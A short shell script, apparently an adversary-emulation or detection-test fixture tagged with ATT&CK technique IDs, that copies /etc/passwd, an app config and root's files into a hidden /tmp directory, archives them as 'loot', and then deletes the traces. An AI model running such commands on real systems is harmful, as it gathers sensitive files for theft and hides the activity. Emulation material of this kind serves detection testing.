#!/bin/sh
# Local data staging (T1074.001) and archive via utility (T1560.001).
mkdir /tmp/.s
/bin/cp /etc/passwd /srv/app/config.yml /tmp/.s/
cat /root/notes.txt > /tmp/.s/notes.txt
/bin/tar -czf /tmp/.s/loot.tgz /etc/passwd /root
/bin/tar -cf /tmp/app.tar /srv/app
/bin/rm -rf /tmp/.s /tmp/app.tar
echo "[corpus] staging done"
